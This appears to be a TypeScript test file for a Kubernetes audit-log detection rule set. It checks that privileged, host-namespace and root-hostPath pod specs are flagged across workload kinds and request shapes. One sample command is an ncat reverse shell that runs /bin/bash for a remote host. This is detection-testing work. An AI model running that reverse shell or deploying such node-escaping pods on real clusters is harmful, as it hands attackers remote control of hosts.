import { describe, expect, it } from 'vitest'
import { auditEvent } from '../../services/cli/rule-tests/test-events.ts'
import { loadRuleSet } from '../../services/core/detect/load-rule-set.ts'
import { WORKLOAD_KINDS, type WorkloadKind } from '../../services/core/enrich/workload-kinds.ts'
import type { JsonObject } from '../../services/core/json.ts'
import { readRuleFolder } from '../../services/platform/rule-files.ts'
import { RULES } from './rule-tests.ts'

/**
 * Dangerous pods of eight profiles, in each kind of workload and asked for in each way there is. What a pod spec may do is found
 * whatever it comes in, by the rule for it and by no other.
 */

const { rules, loaded } = loadRuleSet(await readRuleFolder(RULES))
const nameOf = new Map(loaded.map(({ document }) => [document.id, document.name]))

/** Rules about what a pod may do to its node. */
const POD_SECURITY = new Set([
  'privileged_workload',
  'host_namespace_workload',
  'sensitive_host_path',
  'writable_host_path',
  'writable_log_mount',
  'runtime_socket_mounted',
  'dangerous_capability',
  'dangerous_ephemeral_container',
  'isolation_weakened',
  'isolation_relaxed',
  'node_debug_pod',
  'pod_as_controller'
])

interface Profile {
  readonly spec?: JsonObject
  readonly container?: JsonObject
  readonly rules: readonly string[]
}

const PRIVILEGED = { securityContext: { privileged: true } }
const MOUNT = { volumeMounts: [{ name: 'node', mountPath: '/node' }] }
const ROOT = { volumes: [{ name: 'node', hostPath: { path: '/' } }] }
const PROFILES: Readonly<Record<string, Profile>> = {
  'nothing is allowed': { rules: [] },
  'it is privileged': { container: PRIVILEGED, rules: ['privileged_workload'] },
  'it has the processes of the host': { spec: { hostPID: true }, rules: ['host_namespace_workload'] },
  'it has the IPC of the host': { spec: { hostIPC: true }, rules: ['host_namespace_workload'] },
  'it has the network of the host': { spec: { hostNetwork: true }, rules: ['host_namespace_workload'] },
  'it has the files of the host': {
    spec: ROOT,
    container: MOUNT,
    rules: ['sensitive_host_path', 'writable_host_path']
  },
  'it is privileged and has the processes of the host': {
    spec: { hostPID: true },
    container: PRIVILEGED,
    rules: ['privileged_workload', 'host_namespace_workload']
  },
  'everything is allowed': {
    spec: { hostPID: true, hostIPC: true, hostNetwork: true, ...ROOT },
    container: { ...PRIVILEGED, ...MOUNT },
    rules: [
      'privileged_workload',
      'host_namespace_workload',
      'sensitive_host_path',
      'writable_host_path',
      'node_debug_pod'
    ]
  }
}

const COMMANDS: Readonly<Record<string, readonly string[]>> = {
  waits: ['sh', '-c', 'while :; do sleep 30; done'],
  'connects back': ['sh', '-c', 'ncat --ssl "$HOST" "$PORT" -e /bin/bash']
}
const PLAIN = { name: 'plain', image: 'registry.example.org/plain:1' }

/** Ways to ask for a pod spec, each as what an audit event has of it. */
type Way = (kind: WorkloadKind, spec: JsonObject) => JsonObject

const inKind = ({ podSpec }: WorkloadKind, spec: unknown): unknown =>
  podSpec.reduceRight<unknown>((inner, key) => ({ [key]: inner }), spec)
const firstContainer = (spec: JsonObject): unknown => (Array.isArray(spec.containers) ? spec.containers[0] : undefined)

const WAYS: Readonly<Record<string, Way>> = {
  created: (kind, spec) => ({ verb: 'create', responseStatus: { code: 201 }, requestObject: inKind(kind, spec) }),
  updated: (kind, spec) => ({ verb: 'update', requestObject: inKind(kind, spec) }),
  'created, with the answer': (kind, spec) => ({
    verb: 'create',
    requestObject: inKind(kind, spec),
    responseObject: inKind(kind, spec)
  }),
  'created by server-side apply': (kind, spec) => ({
    verb: 'patch',
    responseStatus: { code: 201 },
    requestObject: inKind(kind, spec),
    responseObject: inKind(kind, spec)
  }),
  'patched, by a merge that the answer completes': (kind, spec) => ({
    verb: 'patch',
    requestObject: inKind(kind, spec),
    responseObject: inKind(kind, { ...spec, restartPolicy: 'Always' })
  }),
  'patched, by a merge without the answer': (kind, spec) => ({
    verb: 'patch',
    level: 'Request',
    requestObject: inKind(kind, spec)
  }),
  'patched, field by field': (kind, spec) => ({
    verb: 'patch',
    level: 'Request',
    requestObject: Object.entries(spec).map(([key, value]) => ({
      op: 'add',
      path: `/${[...kind.podSpec, key].join('/')}`,
      value
    }))
  }),
  'patched, with a container added before another': (kind, spec) => {
    const { containers: _, ...rest } = spec
    const list = `/${[...kind.podSpec, 'containers'].join('/')}`
    return {
      verb: 'patch',
      level: 'Request',
      requestObject: [
        ...Object.entries(rest).map(([key, value]) => ({
          op: 'replace',
          path: `/${[...kind.podSpec, key].join('/')}`,
          value
        })),
        { op: 'add', path: `${list}/-`, value: firstContainer(spec) },
        { op: 'add', path: `${list}/-`, value: PLAIN }
      ]
    }
  },
  'created, as an init container': (kind, { containers, ...rest }) => ({
    verb: 'create',
    requestObject: inKind(kind, { ...rest, containers: [PLAIN], initContainers: containers })
  })
}

function firedBy(kind: WorkloadKind, profile: Profile, command: readonly string[], way: Way): readonly string[] {
  const container = { name: 'main', image: 'registry.example.org/shop/web:1', command, ...profile.container }
  const spec = { ...profile.spec, containers: [container] }
  const event = auditEvent({
    objectRef: { resource: kind.resource, namespace: 'shop', name: 'web' },
    ...way(kind, spec)
  })
  return rules.match(event).map(({ rule }) => nameOf.get(rule.id) ?? rule.id)
}

describe.each(WORKLOAD_KINDS.map((kind) => [kind.kind, kind] as const))('a %s', (_, kind) => {
  describe.each(Object.entries(PROFILES))('of which %s', (__, profile) => {
    it.each(Object.entries(WAYS))('is found by the rules for it and no others when %s', (___, way) => {
      for (const [does, command] of Object.entries(COMMANDS)) {
        const fired = firedBy(kind, profile, command, way)
        expect(fired.filter((name) => POD_SECURITY.has(name)).toSorted()).toEqual(profile.rules.toSorted())
        expect([does, fired.includes('suspicious_pod_command')]).toEqual([does, does === 'connects back'])
      }
    })
  })
})

it('every rule that is expected exists', () => {
  const known = new Set(nameOf.values())
  expect([...POD_SECURITY, 'suspicious_pod_command'].filter((name) => !known.has(name))).toEqual([])
})
